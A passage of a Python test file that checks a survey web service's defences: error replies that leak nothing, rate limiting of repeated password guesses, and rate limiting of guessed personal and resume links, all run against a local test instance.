            "uvicorn",
            "pydantic",
            "sqlalchemy",
            "/src/",
            "line ",
        ):
            assert word not in reply.text


def test_password_guessing(service: Service, manager: Attacker) -> None:
    """Try passwords one after the other; the manager who is inside goes on meanwhile."""
    attacker = Attacker(service.port)
    replies = [attacker.send("/manage/en/login", {"password": f"guess number {n}"}) for n in range(12)]
    texts = {re.sub(r'value="[0-9a-f]{64}"', "", reply.text) for reply in replies if reply.status == 403}
    assert len(texts) == 1, "every wrong try has the same answer"
    assert [reply.status for reply in replies[-2:]] == [429, 429]
    assert 0 < int(replies[-1].header("retry-after")) <= 900
    assert attacker.log_in(PASSWORD).status == 429, "the right one has to wait as well"
    assert manager.get("/manage/en").status == 200


def test_link_guessing(service: Service) -> None:
    """Try personal links and resume links one after the other."""
    attacker = Attacker(service.port)
    statuses = [attacker.get(f"/{'ir'[n % 2]}/{random_key()}").status for n in range(30)]
    assert statuses[-5:] == [429] * 5
    assert set(statuses) <= {404, 429}
    assert attacker.get("/en/1").status == 200, "the survey itself goes on"
